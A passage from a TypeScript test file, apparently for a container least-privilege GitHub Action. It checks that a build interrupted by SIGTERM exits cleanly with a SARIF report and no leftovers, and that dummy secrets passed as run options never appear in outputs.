    'SIGTERM during a real build: exit 143, a SARIF, and after the post step nothing of the run is left',
    async () => {
      const workspace = tempDir('lp-hostile-ws-')
      const temp = tempDir('lp-hostile-tmp-')
      writeFileSync(join(workspace, 'busybox'), readFileSync('/bin/busybox'))
      chmodSync(join(workspace, 'busybox'), 0o755)
      writeFileSync(
        join(workspace, 'Dockerfile'),
        [
          'FROM scratch',
          'COPY busybox /bin/busybox',
          'RUN ["/bin/busybox", "sleep", "60"]',
          'USER root'
        ].join('\n')
      )
      const j = job(workspace, temp, { dockerfile: 'Dockerfile', build: 'true', probe: 'auto' })
      const started = startMainStep(j)
      setTimeout(() => started.child.kill('SIGTERM'), 8000)
      const main = await withDeadline(started.done, 90_000, 'main step after SIGTERM')
      const post = await withDeadline(runPostStep(j, main.state), 120_000, 'post step')
      const problems: string[] = []
      if (main.code !== 143) problems.push(`main exit ${main.code}, expected 143: ${main.stdout.slice(-800)}`)
      if (post.code !== 0) problems.push(`post exit ${post.code}`)
      if (STACK.test(main.stdout + main.stderr + post.stdout + post.stderr)) problems.push('stack trace')
      if (!existsSync(join(workspace, 'least-privilege.sarif'))) problems.push('no SARIF')
      // Wait for the daemon to finish cancelling the build, then look for anything labelled with the run.
      await new Promise(r => setTimeout(r, 5000))
      problems.push(...leftovers(main.state.runId ?? '').map(id => `left behind: ${id}`))
      expect({ problems, stdout: main.stdout.slice(0, 1500), post: post.stdout.slice(0, 800) }).toEqual({
        problems: [],
        stdout: main.stdout.slice(0, 1500),
        post: post.stdout.slice(0, 800)
      })
    },
    CASE_MS
  )

  it(
    'secrets in the probed deployment appear in no output',
    async () => {
      const secret = 'Kd4Hs8Mq2Vn6Bx0C'
      const ghp = 'ghp_' + 'D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8s9T0u1'
      const s = await step(
        busybox({
          Dockerfile: [
            'FROM scratch',
            'COPY busybox /bin/busybox',
            'USER 65532',
            'ENTRYPOINT ["/bin/busybox", "sleep", "30"]'
          ].join('\n')
        }),
        {
          dockerfile: 'Dockerfile',
          build: 'true',
          probe: 'true',
          'run-options': `--cap-drop ALL --env API_KEY=${secret} -e GH=${ghp} --label vault=${secret}x --hostname ${ghp}`
        }
      )
      const outputs: Record<string, string> = {
        stdout: s.main.stdout,
        stderr: s.main.stderr,
        'post stdout': s.post?.stdout ?? '',
        ...s.written,
        ...Object.fromEntries(s.comments.map((c, i) => [`comment ${i}`, c]))
      }
      const addMask = (line: string): boolean => /^\s*::add-mask::/.test(line)
      expect({
        sightings: [...secretSightings(outputs, secret, addMask), ...secretSightings(outputs, ghp, addMask)],
        step: briefStep(s)
      }).toEqual({
        sightings: [],
        step: briefStep(s)
      })
      expect(leftovers(s.main.state.runId ?? '')).toEqual([])
    },
    CASE_MS
  )
})
